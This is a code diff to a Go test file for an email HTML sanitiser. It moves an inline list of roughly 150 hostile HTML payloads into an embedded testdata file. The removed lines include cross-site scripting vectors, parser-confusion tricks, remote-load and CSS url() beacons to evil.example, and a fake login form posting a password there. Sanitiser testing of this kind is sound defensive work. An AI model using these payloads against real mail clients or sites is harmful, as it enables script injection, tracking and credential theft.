@@ -2,6 +2,7 @@ package display
 
 import (
 	"context"
+	_ "embed"
 	"strings"
 	"testing"
 	"time"
@@ -70,164 +71,11 @@ func checkAttr(t testing.TB, source, element string, a html.Attribute) {
 
 // hostile are the shapes of attacks on mail in a browser: scripts, remote loads,
 // forms, navigation, other languages, broken syntax that a browser mends.
-var hostile = strings.Split(strings.TrimSpace(`
-<script>alert(1)</script>
-<SCRIPT SRC=//evil.example/x.js></SCRIPT>
-<scr<script>ipt>alert(1)</scr</script>ipt>
-<script/x>alert(1)</script >
-<<script>alert(1)//<</script>
-<script>alert(1)
-<noscript><p title="</noscript><img src=x onerror=alert(1)>">
-<img src=x onerror=alert(1)>
-<img src=x onerror="alert(1)" onload='x' OnClick=y>
-<img/src=x/onerror=alert(1)>
-<img src="x" onerror
-=alert(1)>
-<img src=javascript:alert(1)>
-<img src="jav&#x09;ascript:alert(1)">
-<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
-<img src=https://evil.example/p.gif>
-<img src=//evil.example/p.gif>
-<img src=http:evil.example/p.gif>
-<img src=\\evil.example\p.gif>
-<img src=" https://evil.example/p.gif">
-<img srcset="https://evil.example/p.gif 2x">
-<img src=data:image/svg+xml,<svg/onload=alert(1)>>
-<img src="data:image/svg+xml;base64,PHN2Zy8+">
-<img src="data:text/html,<script>alert(1)</script>">
-<img src=data:image/png;base64,iVBORw0KGgo= onerror=alert(1)>
-<img src=cid:unknown>
-<img src=x src=https://evil.example/second>
-<img lowsrc=https://evil.example/l dynsrc=https://evil.example/d longdesc=https://evil.example/g>
-<image src=https://evil.example/p.gif>
-<picture><source srcset=https://evil.example/p.webp><img src=https://evil.example/p></picture>
-<input type=image src=https://evil.example/p>
-<video poster=https://evil.example/p src=https://evil.example/v autoplay></video>
-<video><source onerror=alert(1)></video>
-<audio src=https://evil.example/a autoplay></audio>
-<track src=https://evil.example/t>
-<embed src=https://evil.example/e>
-<object data=https://evil.example/o></object>
-<object data="data:text/html,<script>alert(1)</script>"></object>
-<applet code=x archive=https://evil.example/a></applet>
-<iframe src=https://evil.example/></iframe>
-<iframe srcdoc="<script>alert(1)</script>"></iframe>
-<iframe src=javascript:alert(1)>
-<frameset><frame src=https://evil.example/></frameset>
-<portal src=https://evil.example/></portal>
-<fencedframe src=https://evil.example/></fencedframe>
-<link rel=stylesheet href=https://evil.example/s.css>
-<link rel=prefetch href=https://evil.example/>
-<link rel=dns-prefetch href=//evil.example>
-<link rel=preconnect href=https://evil.example>
-<style>@import 'https://evil.example/s.css';</style>
-<style>body{background:url(https://evil.example/b)}</style>
-<style><img src=x onerror=alert(1)></style>
-<style>/*</style><img src=x onerror=alert(1)>*/
-<base href=https://evil.example/><a href=x>x</a>
-<meta http-equiv=refresh content="0;url=https://evil.example/">
-<meta http-equiv=Content-Security-Policy content="default-src *">
-<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
-<body onload=alert(1) background=https://evil.example/b>
-<body style="background:url(https://evil.example/b)">
-<table background=https://evil.example/b><td background=https://evil.example/c>x
-<div style="background:url(https://evil.example/b)">x</div>
-<div style="background:URL('https://evil.example/b')">x</div>
-<div style="background:\75rl(https://evil.example/b)">x</div>
-<div style="background:u/**/rl(https://evil.example/b)">x</div>
-<div style="background-image:image-set('https://evil.example/b' 1x)">x</div>
-<div style="background-image:-webkit-image-set(url(https://evil.example/b) 1x)">x</div>
-<div style="background:cross-fade(url(https://evil.example/b), red)">x</div>
-<div style="list-style-image:url(https://evil.example/b)">x</div>
-<div style="content:url(https://evil.example/b)">x</div>
-<div style="cursor:url(https://evil.example/b),auto">x</div>
-<div style="filter:url(https://evil.example/b#f)">x</div>
-<div style="mask:url(https://evil.example/b)">x</div>
-<div style="shape-outside:url(https://evil.example/b)">x</div>
-<div style="width:expression(alert(1))">x</div>
-<div style="behavior:url(#default#time2)">x</div>
-<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>
-<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>
-<div style="--x:url(https://evil.example/b);background:var(--x)">x</div>
-<div style="color:red;}*{background:url(https://evil.example/b)">x</div>
-<div style="font-family:'x';background:url('https://evil.example/b">x</div>
-<div style="@import 'https://evil.example/s'">x</div>
-<div style='color:red"><script>alert(1)</script>'>x</div>
-<div style="color:rgb(0,0,0)url(https://evil.example/b)">x</div>
-<div style="color:rgb(url(https://evil.example/b))">x</div>
-<a href=javascript:alert(1)>x</a>
-<a href="JaVaScRiPt:alert(1)">x</a>
-<a href="java&Tab;script:alert(1)">x</a>
-<a href="java&NewLine;script&colon;alert(1)">x</a>
-<a href=" &#14; javascript:alert(1)">x</a>
-<a href="vbscript:msgbox(1)">x</a>
-<a href="data:text/html,<script>alert(1)</script>">x</a>
-<a href="blob:https://x/y">x</a>
-<a href="file:///etc/passwd">x</a>
-<a href="view-source:https://x/">x</a>
-<a href="intent://x#Intent;end">x</a>
-<a href="/logout">x</a>
-<a href="//evil.example/">x</a>
-<a href="?q">x</a>
-<a href="#main">x</a>
-<a href=https://x/ ping=https://evil.example/ping>x</a>
-<a href=https://x/ target=_top>x</a>
-<a href=https://x/ download>x</a>
-<a href=https://x/ rel=opener target=_self>x</a>
-<area href=javascript:alert(1)><map name=m><area href=https://evil.example/></map>
-<form action=https://evil.example/><input name=password><button>Log in</button></form>
-<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
-<input onfocus=alert(1) autofocus>
-<select onfocus=alert(1) autofocus><option>x</select>
-<textarea onfocus=alert(1) autofocus></textarea>
-<textarea></textarea><img src=x onerror=alert(1)></textarea>
-<keygen autofocus onfocus=alert(1)>
-<isindex action=javascript:alert(1) type=image>
-<marquee onstart=alert(1)>x</marquee>
-<details open ontoggle=alert(1)><summary>x</summary></details>
-<dialog open>x</dialog>
-<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>
-<svg onload=alert(1)></svg>
-<svg><script>alert(1)</script></svg>
-<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>
-<svg><image href=https://evil.example/p></svg>
-<svg><use href="https://evil.example/s.svg#x"/></svg>
-<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
-<svg><set attributeName=href to=javascript:alert(1)></svg>
-<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
-<svg><style><img src=x onerror=alert(1)></style></svg>
-<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
-<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
-<math><mi//xlink:href="data:x,<script>alert(1)</script>">
-<math href=javascript:alert(1)>x</math>
-<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>
-<template><img src=x onerror=alert(1)></template>
-<template shadowrootmode=open><script>alert(1)</script></template>
-<xmp><img src=x onerror=alert(1)></xmp>
-<plaintext><img src=x onerror=alert(1)>
-<listing><img src=x onerror=alert(1)></listing>
-<noembed><img src=x onerror=alert(1)></noembed>
-<noframes><img src=x onerror=alert(1)></noframes>
-<title><img src=x onerror=alert(1)></title>
-<!--><img src=x onerror=alert(1)>-->
-<!--[if mso]><img src=https://evil.example/p><![endif]-->
-<!-- --!><img src=x onerror=alert(1)> -->
-<![CDATA[<img src=x onerror=alert(1)>]]>
-<?xml-stylesheet href="https://evil.example/x"?>
-<!DOCTYPE html [<!ENTITY x SYSTEM "https://evil.example/">]>
-<x onclick=alert(1)>x</x>
-<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
-<custom-element is=x onclick=alert(1)>x</custom-element>
-<b id=documentElement name=body class=card>x</b>
-<img name=cookie src=x><a id=location href=https://evil.example/>
-<p slot=x part=y contenteditable tabindex=1 accesskey=x draggable=true>x</p>
-<td onmouseover=alert(1) style="color:red">x</td>
-<a href="https://x/" style="display:block;position:absolute">x</a>
-<font color="red;background:url(x)" face="x';}" size=99999>x</font>
-<table width="100%;background:url(x)" bgcolor="javascript:alert(1)">x</table>
-<ol type="x" start="javascript:1"><li value=x>x</ol>
-<p align="left onclick=alert(1)" dir="ltr onload=x" lang="en' onclick=x">x</p>
-`), "\n<")
+//
+//go:embed testdata/hostile.html
+var hostileText string
+
+var hostile = strings.Split(strings.TrimSpace(hostileText), "\n<")
 
 func TestSanitiseHostile(t *testing.T) {
 	if len(hostile) < 140 {
